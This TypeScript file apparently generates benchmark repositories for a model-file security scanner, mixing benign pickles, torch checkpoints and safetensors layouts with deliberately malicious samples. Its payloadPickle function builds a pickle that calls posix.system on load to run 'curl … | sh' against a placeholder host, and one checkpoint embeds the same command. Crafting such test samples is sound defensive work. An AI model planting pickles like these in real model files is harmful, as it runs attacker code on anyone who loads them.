// The Hub repos of the scale bench (bench/scale.ts): many small repos of pickles, and every tenth a sparse
// multi-GB checkpoint laid out like torch.save or a sparse safetensors file. Every repo's files have their own
// content ids, so one repo's inventories never serve another's scan from the cache: a cold scan is cold.
import { createHash } from "node:crypto";
import { smallFile, type RepoSpec, type VirtualFile } from "../packages/engine/test/support/hub-server.js";
import { torchCheckpoint } from "../packages/engine/test/support/torch-zip.js";

const GiB = 1024 ** 3;
const MiB = 1024 ** 2;

export type Kind = "torch" | "safetensors" | "pickles";
export type ChangeKind = "file changed" | "payload added";

export interface BenchRepo {
  id: string;
  index: number;
  kind: Kind;
  payload: boolean;
  spec: RepoSpec;
  first: string;
  /** For the changed repos: the new commit, what changed, and how the service is told. */
  change?: { sha: string; kind: ChangeKind; via: "webhook" | "polling"; files: VirtualFile[]; bytes: number };
}

/** Layouts shared by many repos (the server holds each once; the content ids differ per repo). */
const TORCH = torchCheckpoint(2 * GiB, 200);
const TORCH_PAYLOAD = torchCheckpoint(2 * GiB, 200, "curl -s http://example.invalid/x | sh");
const TORCH_RETRAINED = torchCheckpoint(2 * GiB, 201);
const SAFETENSORS = safetensorsLayout(96, 32 * MiB, "1");
const SAFETENSORS_RETRAINED = safetensorsLayout(96, 32 * MiB, "2");

const hex = (seed: string, length = 64): string => createHash("sha256").update(seed).digest("hex").slice(0, length);

/** A sparse LFS file with a content id of its own (the bytes may be shared with other repos' files). */
function sparse(path: string, layout: { size: number; segments: VirtualFile["segments"] }, seed: string): VirtualFile {
  const lfsOid = hex(`${seed}:${path}`);
  return { path, size: layout.size, segments: layout.segments, lfs: true, oid: lfsOid.slice(0, 40), lfsOid };
}

function safetensorsLayout(
  count: number,
  each: number,
  step: string,
): { size: number; segments: VirtualFile["segments"] } {
  const header: Record<string, unknown> = { __metadata__: { format: "pt", step } };
  for (let i = 0; i < count; i++)
    header[`model.layers.${i}.weight`] = { dtype: "F32", shape: [each / 4], data_offsets: [i * each, (i + 1) * each] };
  const json = Buffer.from(JSON.stringify(header));
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(json.length));
  return {
    size: 8 + json.length + count * each,
    segments: [
      { offset: 0, bytes: length },
      { offset: 8, bytes: json },
    ],
  };
}

const binunicode = (s: string): Buffer => {
  const text = Buffer.from(s);
  const head = Buffer.alloc(5);
  head[0] = 0x58; // BINUNICODE
  head.writeUInt32LE(text.length, 1);
  return Buffer.concat([head, text]);
};

/** A protocol-2 pickle of {"name": seed, "weights": [floats]}: Pass, and unique to its seed. */
export function weightsPickle(seed: string, floats: number): Buffer {
  const values = Buffer.alloc(floats * 9);
  for (let i = 0; i < floats; i++) {
    values[i * 9] = 0x47; // BINFLOAT
    values.writeDoubleBE(i / (seed.length + 1), i * 9 + 1);
  }
  return Buffer.concat([
    Buffer.from([0x80, 0x02, 0x7d, 0x28]), // PROTO 2, EMPTY_DICT, MARK
    binunicode("name"),
    binunicode(seed),
    binunicode("weights"),
    Buffer.from([0x5d, 0x28]), // EMPTY_LIST, MARK
    values,
    Buffer.from([0x65, 0x75, 0x2e]), // APPENDS, SETITEMS, STOP
  ]);
}

/** A protocol-2 pickle that calls os.system (spelled posix.system) when loaded: Alert. */
export function payloadPickle(seed: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x80, 0x02]),
    Buffer.from("cposix\nsystem\n"),
    binunicode(`curl -s http://example.invalid/${seed} | sh`),
    Buffer.from([0x85, 0x52, 0x2e]), // TUPLE1, REDUCE, STOP
  ]);
}

const config = (seed: string): VirtualFile =>
  smallFile("config.json", Buffer.from(JSON.stringify({ model_type: "bench", name: seed, hidden_size: 4096 })));
const tokenizerConfig = (seed: string): VirtualFile =>
  smallFile(
    "tokenizer_config.json",
    Buffer.from(
      JSON.stringify({
        name: seed,
        chat_template: "{% for m in messages %}{{ m['role'] + ': ' + m['content'] + '\\n' }}{% endfor %}",
      }),
    ),
  );

function filesOf(kind: Kind, payload: boolean, seed: string): VirtualFile[] {
  if (kind === "torch") return [sparse("pytorch_model.bin", payload ? TORCH_PAYLOAD : TORCH, seed), config(seed)];
  if (kind === "safetensors") return [sparse("model.safetensors", SAFETENSORS, seed), config(seed)];
  const model = payload ? payloadPickle(seed) : weightsPickle(seed, 400);
  return [
    smallFile("model.pkl", model, { lfs: true }),
    smallFile("training_args.bin", weightsPickle(`${seed}/args`, 20), { lfs: true }),
    config(seed),
    tokenizerConfig(seed),
  ];
}

/** The new commit of a changed repo: its main file retrained, or a payload pickle added beside the others. */
function changedFiles(repo: BenchRepo, kind: ChangeKind): { files: VirtualFile[]; changed: VirtualFile[] } {
  const old = repo.spec.commits[repo.first]!;
  const seed = `${repo.id}@2`;
  if (kind === "payload added") {
    const added = smallFile("extra/payload.pkl", payloadPickle(seed), { lfs: true });
    return { files: [...old, added], changed: [added] };
  }
  const main =
    repo.kind === "torch"
      ? sparse("pytorch_model.bin", TORCH_RETRAINED, seed)
      : repo.kind === "safetensors"
        ? sparse("model.safetensors", SAFETENSORS_RETRAINED, seed)
        : smallFile("model.pkl", weightsPickle(seed, 400), { lfs: true });
  return { files: old.map((f) => (f.path === main.path ? main : f)), changed: [main] };
}

/**
 * `count` repos: index % 10 == 0 a torch checkpoint (2 GiB, 200 storages), == 1 safetensors (3 GiB, 96 tensors),
 * else four small files. Payloads: the small pickle of every repo with index % 20 == 7, the checkpoint of every
 * index % 100 == 50. Changed (5 %): every twentieth repo, offset so all kinds are among them; alternately one file
 * changed or a payload added, and told by webhook or found by polling in pairs (so both kinds go both ways).
 */
export function benchRepos(count: number): BenchRepo[] {
  const repos: BenchRepo[] = [];
  for (let i = 0; i < count; i++) {
    const id = `bench/repo-${String(i).padStart(4, "0")}`;
    const kind: Kind = i % 10 === 0 ? "torch" : i % 10 === 1 ? "safetensors" : "pickles";
    const payload = kind === "pickles" ? i % 20 === 7 : kind === "torch" && i % 100 === 50;
    const first = hex(`${id}:1`, 40);
    const spec: RepoSpec = { id, refs: { main: first }, commits: { [first]: filesOf(kind, payload, id) } };
    repos.push({ id, index: i, kind, payload, spec, first });
  }
  for (let k = 0; k * 20 < count; k++) {
    const repo = repos[k * 20 + (k % 5)];
    if (!repo) continue;
    const kind: ChangeKind = k % 2 === 0 ? "file changed" : "payload added";
    const sha = hex(`${repo.id}:2`, 40);
    const { files, changed } = changedFiles(repo, kind);
    repo.spec.commits[sha] = files;
    const via = Math.floor(k / 2) % 2 === 0 ? "webhook" : "polling";
    repo.change = { sha, kind, via, files: changed, bytes: changed.reduce((n, f) => n + f.size, 0) };
  }
  return repos;
}

/** Pushes the new commit to main (the Hub serves the spec objects, so this is what a push looks like). */
export function push(repo: BenchRepo): void {
  repo.spec.refs!.main = repo.change!.sha;
}

/** Which repo a Hub request was for: by repo id in the path, or by LFS content id on the storage origin. */
export function repoOfRequest(url: string, byLfsOid: Map<string, string>): string | undefined {
  const named = /\/(bench\/repo-\d{4})\//.exec(url);
  if (named) return named[1];
  const lfs = /^\/lfs\/([0-9a-f]+)/.exec(url);
  return lfs ? byLfsOid.get(lfs[1]!) : undefined;
}

export function lfsIndex(repos: BenchRepo[]): Map<string, string> {
  const map = new Map<string, string>();
  for (const r of repos)
    for (const files of Object.values(r.spec.commits)) for (const f of files) if (f.lfsOid) map.set(f.lfsOid, r.id);
  return map;
}
